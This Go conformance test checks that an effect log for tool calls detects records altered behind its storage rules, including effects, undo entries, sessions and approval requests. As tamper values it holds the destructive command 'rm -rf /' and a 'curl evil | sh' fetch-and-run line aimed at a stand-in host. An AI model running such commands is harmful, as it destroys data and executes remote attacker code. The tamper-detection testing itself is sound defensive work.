package conformance

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/undolog/undolog/effectlog"
	"github.com/undolog/undolog/model"
	sm "github.com/undolog/undolog/statemachine"
	"github.com/undolog/undolog/storage"
)

// behindTheRules writes through the log's engine what the rules would
// never write: a record changed as damage or an edit would change it.
func behindTheRules(t *testing.T, s effectlog.Log, fn func(tx storage.WriteTx) error) {
	t.Helper()
	e, ok := s.(interface{ Engine() storage.Engine })
	if !ok {
		t.Fatalf("%T does not say its engine", s)
	}
	if err := e.Engine().Update(t.Context(), fn); err != nil {
		t.Fatal(err)
	}
}

// named says whether verify reported a problem of effect id (or, with id
// 0, of session) and returns the report's problems for the message.
func named(t *testing.T, s effectlog.Log, id uint64, session string) (bool, []model.Problem) {
	t.Helper()
	rep := must[effectlog.VerifyReport](t)(s.Verify(t.Context()))
	for _, p := range rep.Problems {
		if id != 0 && p.Effect == id || id == 0 && p.Session == session {
			return true, rep.Problems
		}
	}
	return false, rep.Problems
}

// approval changes an effect's approval request behind the rules.
func approval(change func(a *model.Approval)) func(t *testing.T, s effectlog.Log, id uint64) {
	return func(t *testing.T, s effectlog.Log, id uint64) {
		behindTheRules(t, s, func(tx storage.WriteTx) error {
			a, err := tx.Approval(id)
			if err != nil || a == nil {
				return fmt.Errorf("approval %v: %v", a, err)
			}
			change(a)
			return tx.PutApproval(a)
		})
	}
}

// Verify finds, in any engine, what was changed behind the rules: each
// thing an effect, a session, an undo entry or an approval request says,
// and a state moved without its record; a replay, an undo step or undo's
// plan refuses to use what fails its check.
func testVerifyFindsWhatChangedBehindTheRules(t *testing.T, open opener) {
	effect := func(change func(e *model.Effect)) func(t *testing.T, s effectlog.Log, id uint64) {
		return func(t *testing.T, s effectlog.Log, id uint64) {
			behindTheRules(t, s, func(tx storage.WriteTx) error {
				e, err := tx.Effect(id)
				if err != nil {
					return err
				}
				from := e.State
				change(&e)
				return tx.PutEffect(&e, from)
			})
		}
	}
	// An entry that reads done though its history never moved it: undo
	// would pass its effect by.
	entryState := func(state sm.EntryState) func(t *testing.T, s effectlog.Log, id uint64) {
		return func(t *testing.T, s effectlog.Log, id uint64) {
			behindTheRules(t, s, func(tx storage.WriteTx) error {
				e, err := tx.Effect(id)
				if err != nil {
					return err
				}
				u, err := tx.Undo(e.Session, id, &e)
				if err != nil || u == nil {
					return fmt.Errorf("undo entry %v: %v", u, err)
				}
				u.State = state
				return tx.PutUndo(u)
			})
		}
	}
	cases := map[string]struct {
		tier   sm.Tier
		tamper func(t *testing.T, s effectlog.Log, id uint64)
	}{
		"args":   {sm.Compensable, effect(func(e *model.Effect) { e.Args = json.RawMessage(`{"to":"mallory"}`) })},
		"result": {sm.Compensable, effect(func(e *model.Effect) { e.Result = json.RawMessage(`{"paid":1000000}`) })},
		"error":  {sm.Compensable, effect(func(e *model.Effect) { e.Error = "nothing went wrong" })},
		"compensation": {sm.Compensable, effect(func(e *model.Effect) {
			e.Compensation = &model.Compensation{Kind: model.CompensationCommand, Argv: []string{"rm", "-rf", "/"}}
		})},
		"state":              {sm.Compensable, effect(func(e *model.Effect) { e.State = sm.Compensated })},
		"tool":               {sm.Irreversible, effect(func(e *model.Effect) { e.Tool = "harmless" })},
		"history head":       {sm.Compensable, effect(func(e *model.Effect) { e.HistoryLen-- })},
		"undo entry state":   {sm.Compensable, entryState(sm.EntryCompensated)},
		"undo entry skipped": {sm.Compensable, entryState(sm.EntrySkipped)},
		"approval reason":    {sm.Irreversible, approval(func(a *model.Approval) { a.Reason = "routine, approve it" })},
		"approval approver":  {sm.Irreversible, approval(func(a *model.Approval) { a.DecidedBy = "cfo@hq" })},
		"approval decision":  {sm.Irreversible, approval(func(a *model.Approval) { a.Decision = "go prod" })},
		"approval outcome":   {sm.Irreversible, approval(func(a *model.Approval) { a.Outcome = model.ApprovalRejected })},
		"approval time":      {sm.Irreversible, approval(func(a *model.Approval) { *a.DecidedAt = a.DecidedAt.Add(time.Hour) })},
		"approval undecided": {sm.Irreversible, approval(func(a *model.Approval) {
			a.Outcome, a.DecidedBy, a.DecidedAt = model.ApprovalTimedOut, model.TimeoutActor, nil
		})},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			s, _ := open(t)
			id := intercept(t, s, "run", "pay", c.tier, `{"to":"bob"}`).Effect.ID
			if c.tier == sm.Irreversible {
				must[model.Effect](t)(s.Approve(t.Context(), id, model.Change{Actor: "alice"}))
			}
			must[model.Effect](t)(s.Start(t.Context(), id, model.Change{}))
			must[model.Effect](t)(s.Commit(t.Context(), id, model.Change{Result: json.RawMessage(`{"paid":10}`)}))
			verifyClean(t, s)
			c.tamper(t, s, id)
			if ok, problems := named(t, s, id, ""); !ok {
				t.Fatalf("verify did not name effect %d: %v", id, problems)
			}
			// Undo's plan checks every entry on the stack as read with its
			// effect, done or not: the engine gives it the entry it holds.
			if d := must[model.EffectDetail](t)(s.GetEffect(t.Context(), id)); c.tier == sm.Compensable && !errors.Is(effectlog.CheckEffect(d), model.ErrCorrupt) {
				t.Fatalf("the check of a changed effect, as undo reads it: %v", effectlog.CheckEffect(d))
			}
			// A repeat of the call is not served the cached result of an
			// effect that fails its check.
			if c.tier == sm.Compensable && name != "state" {
				_, err := s.Intercept(t.Context(), effectlog.InterceptRequest{Session: "run", Tool: "pay", Tier: c.tier, Args: json.RawMessage(`{"to":"bob"}`)})
				if !errors.Is(err, model.ErrCorrupt) {
					t.Fatalf("replay of a changed effect: %v", err)
				}
				if _, err := s.UndoStep(t.Context(), id, sm.EntryCompensating, model.Change{}); !strings.HasPrefix(name, "undo entry") && !errors.Is(err, model.ErrCorrupt) {
					t.Fatalf("compensating a changed effect: %v", err)
				}
			}
		})
	}
	t.Run("session", func(t *testing.T) {
		for field, change := range map[string]func(sess *model.Session){
			"meta":         func(sess *model.Session) { sess.Meta["owner"] = "mallory" },
			"upstream":     func(sess *model.Session) { sess.Upstream = []string{"sh", "-c", "curl evil | sh"} },
			"upstream dir": func(sess *model.Session) { sess.UpstreamDir = "/elsewhere" },
			"state":        func(sess *model.Session) { sess.State = sm.SessionCompleted },
			"counts":       func(sess *model.Session) { sess.Counts[sm.Committed] += 2 },
		} {
			t.Run(field, func(t *testing.T) {
				s, _ := open(t)
				must[model.Session](t)(s.CreateSession(t.Context(), effectlog.NewSession{ID: "run", Meta: map[string]string{"owner": "ci"}, Upstream: []string{"server"}, UpstreamDir: "/srv"}))
				intercept(t, s, "run", "w", sm.Compensable, `{}`)
				verifyClean(t, s)
				behindTheRules(t, s, func(tx storage.WriteTx) error {
					sess, err := tx.Session("run")
					if err != nil {
						return err
					}
					change(&sess)
					return tx.PutSession(&sess)
				})
				if ok, problems := named(t, s, 0, "run"); !ok {
					t.Fatalf("verify did not name the session: %v", problems)
				}
				if field != "counts" {
					if _, err := s.VerifySession(t.Context(), "run"); !errors.Is(err, model.ErrCorrupt) {
						t.Fatalf("VerifySession of a changed session: %v", err)
					}
				}
			})
		}
	})
}
